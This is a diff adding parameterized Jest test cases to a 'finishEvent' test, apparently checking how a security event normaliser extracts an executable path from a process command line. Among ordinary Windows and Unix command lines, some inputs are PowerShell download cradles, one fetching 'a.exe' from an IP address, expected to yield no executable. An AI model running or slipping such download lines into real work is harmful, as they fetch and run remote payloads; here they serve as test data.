@@ -98,4 +98,17 @@ describe("finishEvent", () => {
     finishEvent(shell);
     expect(shell).not.toHaveProperty(["process.name"]);
   });
+
+  it.each([
+    ["C:\\Program Files\\Own Tools\\run it.exe -k x", "C:\\Program Files\\Own Tools\\run it.exe"],
+    ["%SystemRoot%\\System32\\svchost.exe -k netsvcs", "%SystemRoot%\\System32\\svchost.exe"],
+    ["/usr/bin/env python3 a.py", "/usr/bin/env"],
+    ["$client.DownloadFile('http://203.0.113.7/a.exe')", undefined],
+    ["[System.Net.ServicePointManager]::Expect100Continue", undefined],
+    ["(New-Object Net.WebClient).DownloadString('x')", undefined],
+  ])("takes %s for what it is", (line, expected) => {
+    const values: Collected = { "process.command_line": line };
+    finishEvent(values);
+    expect(values["process.executable"]).toBe(expected);
+  });
 });
